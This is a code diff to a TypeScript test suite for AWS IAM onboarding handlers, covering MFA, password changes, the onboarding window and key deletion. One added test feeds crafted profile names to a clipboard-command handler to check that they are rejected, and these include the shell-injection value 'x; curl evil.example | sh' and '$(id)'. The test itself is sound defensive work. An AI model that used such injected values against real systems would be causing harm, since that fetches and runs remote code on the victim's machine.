@@ -14,14 +14,16 @@ let sandbox: Sandbox;
 let logLines: string[];
 let outputs: unknown[];
 let handlers: HandlerTable;
+let ports: ReturnType<typeof createNodePorts>;
 
 beforeEach(async () => {
   sandbox = await startSandbox({ accountAlias: 'acme-prod' });
   logLines = [];
   outputs = [];
   const { AWS_ACCESS_KEY_ID: _k, AWS_SECRET_ACCESS_KEY: _s, ...env } = sandbox.env;
+  ports = createNodePorts();
   handlers = composeApp({
-    platform: createNodePorts(),
+    platform: ports,
     log: createLogger((l) => logLines.push(l)),
     env,
     info: { version: 'test', platform: 'test' },
@@ -73,11 +75,15 @@ describe('onboarding handlers against the sandbox', () => {
     expect(await fails('onboarding:proveMfa', { code: totpAtStep(seed, now() - 1) })).toMatchObject({ code: 'onboarding.codeAlreadyUsed' });
     expect(sandbox.requestLog.filter((e) => e.action === 'GetSessionToken')).toHaveLength(0);
     await ok('onboarding:proveMfa', { code: totpAtStep(seed, now()) });
+    // "Prove it" closed the onboarding window with the MFA session; the invite's expiry policy is now inert.
+    expect(sandbox.state.getUser('jdoe')?.tags).not.toHaveProperty('iam-onboarding-window');
     expect(await ok('onboarding:finish', { keepCliAccess: false })).toEqual({
       consoleUrl: 'https://acme-prod.signin.aws.amazon.com/console',
       keyDeleted: true,
+      windowClosed: true,
       profile: null,
     });
+    expect(sandbox.state.listAccessKeys('jdoe')).toEqual([]);
 
     const everything = JSON.stringify(outputs.filter((o) => !JSON.stringify(o).includes('"key"'))) + logLines.join('\n');
     for (const secret of [user.password, NEW_PASSWORD, user.secretAccessKey!, seed]) expect(everything).not.toContain(secret);
@@ -119,7 +125,7 @@ describe('onboarding handlers against the sandbox', () => {
     expect(sandbox.state.listVirtualMfaDevices()).toHaveLength(1);
   });
 
-  it('a wrong temporary password typed by hand: ChangePassword is refused and reported as such', async () => {
+  it('a wrong temporary password typed by hand: AWS\'s AccessDenied does not say why, and the message names both causes', async () => {
     const user = sandbox.scenario.newUser({ userName: 'jdoe', attachEnforcementPolicy: true });
     await ok('onboarding:signIn', {
       method: 'manual',
@@ -129,7 +135,7 @@ describe('onboarding handlers against the sandbox', () => {
       secretAccessKey: user.secretAccessKey,
       temporaryPassword: 'Not-The-Temporary-1',
     });
-    expect(await fails('onboarding:changePassword', { newPassword: NEW_PASSWORD })).toMatchObject({ code: 'onboarding.wrongTemporaryPassword' });
+    expect(await fails('onboarding:changePassword', { newPassword: NEW_PASSWORD })).toMatchObject({ code: 'onboarding.wrongPasswordOrRefused' });
     expect(await fails('onboarding:changePassword', { newPassword: 'Not-The-Temporary-1' })).toMatchObject({ code: 'onboarding.sameAsTemporary' });
     expect(sandbox.state.checkPassword('jdoe', user.password)).toBe(true);
   });
@@ -150,6 +156,23 @@ describe('onboarding handlers against the sandbox', () => {
     expect(sandbox.state.listMfaDevices('jdoe')).toHaveLength(1);
     await ok('onboarding:proveMfa', { code: totpAtStep(user.mfa!.base32Seed, now()) });
     expect(await ok('onboarding:finish', { keepCliAccess: false })).toMatchObject({ keyDeleted: true });
+  });
+
+  it('onboarding not open (finished, expired or never opened): registering a device is refused with a message to ask the admin, and nothing is created', async () => {
+    const user = sandbox.scenario.newUser({ userName: 'jdoe', attachEnforcementPolicy: true, onboardingWindow: false, passwordResetRequired: false });
+    await signIn(user);
+    expect(await fails('onboarding:startMfa')).toMatchObject({ code: 'onboarding.mfaDenied', params: { action: 'iam:CreateVirtualMFADevice' } });
+    expect(sandbox.state.listVirtualMfaDevices()).toEqual([]);
+  });
+
+  it('the finish screen\'s command is built in main from a profile name; a crafted name never reaches the clipboard', async () => {
+    expect(await ok('onboarding:copyCliCommand', { profile: 'jdoe-acme-prod-2' })).toEqual({ copied: true });
+    expect(ports.clipboard.read()).toBe('aws sts get-caller-identity --profile jdoe-acme-prod-2');
+    expect(ports.clipboard.concealed()).toBe(false);
+    for (const profile of ['x; curl evil.example | sh', 'a\nb', '$(id)', '', 'x'.repeat(129)]) {
+      expect((await fails('onboarding:copyCliCommand', { profile })).code, profile).toBe('ipc.invalidInput');
+    }
+    expect(ports.clipboard.read()).toBe('aws sts get-caller-identity --profile jdoe-acme-prod-2');
   });
 
   it('cancel wipes the session', async () => {
